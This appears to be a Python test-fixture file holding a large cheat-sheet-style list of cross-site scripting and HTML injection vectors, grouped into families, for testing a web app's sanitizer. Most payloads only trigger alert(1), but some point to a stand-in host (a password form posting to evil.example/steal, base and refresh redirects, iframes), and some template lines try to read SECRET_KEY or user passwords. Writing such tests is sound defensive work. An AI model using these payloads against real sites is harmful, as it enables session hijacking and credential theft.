"""Hostile HTML, grouped by family, in the style of the classic XSS cheat sheets.

Every vector that could run script calls `alert(1)` or sets `window.__xss`,
the traps tests/browser/test_injection.py installs in the page. Written here,
never fetched.
"""

TRAP = "alert(1)"

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=/static/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script type=module>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=javascript:alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=# onclick=alert(1)>click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p onpointerenter=alert(1)>x</p>",
    "<img src=x onerror\x0b=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=x `onerror=alert(1)`>",
    "<a title='x' onmouseover='alert(1)'>x</a>",
    "<strong onclick=alert(1)>bold</strong>",
    "<table background=x onerror=alert(1)><tr><td>x</td></tr></table>",
]

URL_SCHEMES = [
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">'
    "x</a>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "[click](javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html,alert(1))",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="https://example.com" onclick="alert(1)">ok link</a>',
    '<a href="//evil.example/x">protocol-relative</a>',
    '<a href="livescript:alert(1)">x</a>',
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
]

RAW_TEXT_MUTATION = [
    "<noscript><img src=x onerror=alert(1)></noscript>",
    '<textarea><img src=x onerror="alert(1)"></textarea>',
    "<title><img src=x onerror=alert(1)></title>",
    "<style><img src=x onerror=alert(1)></style>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=alert(1)>",
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    '<img alt="<svg onload=alert(1)>" src=x>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
]

CSS = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<p style="x:\\65xpression(alert(1))">x</p>',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>*{display:none}</style>",
    "<b style=-moz-binding:url(x.xml#xss)>x</b>",
]

META_BASE = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<meta charset="x-imap4-modified-utf7">',
]

FORMS = [
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    '<form action="https://evil.example/steal"><input name=password></form>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<button form="x" formaction="javascript:alert(1)">go</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<input type=hidden name=csrfmiddlewaretoken value=evil>",
    '<label for="id_body">fake label</label><input id="id_body">',
]

EMBEDS = [
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<applet code="x.class"></applet>',
    "<frameset onload=alert(1)>",
    '<portal src="https://evil.example/"></portal>',
]

SRCSET = [
    '<img srcset="javascript:alert(1) 1x">',
    '<img src=x srcset="x 1x, javascript:alert(1) 2x">',
    '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
    '<img src="image:1" srcset="data:text/html,x 2x">',
    '<img src="image:1 onerror=alert(1)">',
    '<img src="image:1" onerror="alert(1)">',
    '![x" onerror="alert(1)](image:1)',
    '![x](image:1 "t\\" onerror=\\"alert(1)")',
    '<img src="image:999999" onerror=alert(1)>',
    '<img src="image:1" title="</figcaption><script>alert(1)</script>">',
    '<img src="image:1" alt="\\"><script>alert(1)</script>">',
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<<img src=x onerror=alert(1)>>",
    "<img src='x' onerror='alert(1)' <",
    '<div id="x" <img src=x onerror=alert(1)>',
    "</p></div></main><script>alert(1)</script>",
    "<p><b><i></b></i><img src=x onerror=alert(1)>",
    "<table><td><img src=x onerror=alert(1)></table>",
    "<a <a href=javascript:alert(1)>x</a>",
    "<img src=x onerror=alert(1)\x00>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x00src=x onerror=alert(1)>",
    "<!doctype html><html><head><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<%= alert(1) %><img src=x onerror=alert(1)>",
    "\"'`><\x00img src=x onerror=alert(1)>",
]

TEMPLATE_SYNTAX = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.user.password }}",
    "{{settings.SECRET_KEY}}",
    "${alert(1)}",
    "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "[[${alert(1)}]]",
    "<%- alert(1) %>",
]

UNICODE_CONTROL = [
    "\u202eevil\u202c <img src=x onerror=alert(1)>",
    "\u2066\u2067 isolates \u2069",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<img src=x onerror=\u0061lert(1)>",
    "\x1b[31mred\x1b[0m",
    "a\x08b\x07c\x0bd\x0ce",
    "zero\u200bwidth\u200d<script>alert(1)</script>",
    "\U0001f600 emoji <b>bold</b>",
    "combining a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    '<a href="\u0000javascript:alert(1)">x</a>',
    "\u2028line\u2029separators",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
]

SIZE = [
    "A" * 5000,
    "<b>" * 500 + "deep" + "</b>" * 500,
    "<div>" * 300 + "<img src=x onerror=alert(1)>" + "</div>" * 300,
    "> " * 100 + "nested quote",
    "- " + "\n  - ".join(["item"] * 60),
    "<a href=x>" * 200 + "links",
    "<img src=x onerror=alert(1)>" * 50,
    "[x](" + "(" * 300 + ")" * 300 + ")",
    "*" * 3000,
]

FAMILIES = {
    "script": SCRIPT,
    "event handlers": EVENT_HANDLERS,
    "url schemes": URL_SCHEMES,
    "svg and mathml": SVG_MATHML,
    "raw-text mutation": RAW_TEXT_MUTATION,
    "css": CSS,
    "meta and base": META_BASE,
    "forms": FORMS,
    "embeds": EMBEDS,
    "srcset": SRCSET,
    "broken markup": BROKEN_MARKUP,
    "template syntax": TEMPLATE_SYNTAX,
    "unicode and control characters": UNICODE_CONTROL,
    "size": SIZE,
}

VECTORS = [vector for family in FAMILIES.values() for vector in family]

# What can be stored: every form refuses NUL (Django's validator) and
# PostgreSQL cannot hold it, so the vectors are stored without it.
STORABLE = [vector.replace("\x00", "") for vector in VECTORS]
